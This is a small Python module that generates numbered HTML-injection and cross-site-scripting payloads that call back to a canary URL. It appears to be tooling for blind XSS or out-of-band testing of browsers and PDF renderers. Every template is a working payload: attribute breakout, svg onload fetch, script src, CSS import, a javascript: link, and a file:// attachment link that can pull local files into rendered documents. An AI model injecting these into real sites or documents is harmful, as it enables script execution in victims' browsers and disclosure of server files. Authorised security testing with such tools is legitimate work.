"""Payloads that call a canary when a browser or a printer lets them."""

SHORT = '="><img src={url}/{n}>'
LONG = (
    SHORT + "<svg onload=fetch('{url}/{n}')><image href={url}/{n} /></svg><style>@import url({url}/{n});</style>"
    "<link rel=attachment href=file://{file}><script src={url}/{n}></script>"
)
LINK = "javascript:fetch('{url}/{n}')"


class Seeds:
    """Payloads, each with a number of its own; what calls the canary says which."""

    def __init__(self, *, url: str, file: object) -> None:
        self.url, self.file, self._n = url, file, 0

    def _next(self, text: str) -> str:
        self._n += 1
        return text.format(url=self.url, file=self.file, n=self._n)

    def short(self) -> str:
        """Some 45 characters."""
        return self._next(SHORT)

    def long(self) -> str:
        """SVG, CSS, script, image and attachment."""
        return self._next(LONG)

    def link(self) -> str:
        """For what may become an address to click on."""
        return self._next(LINK)
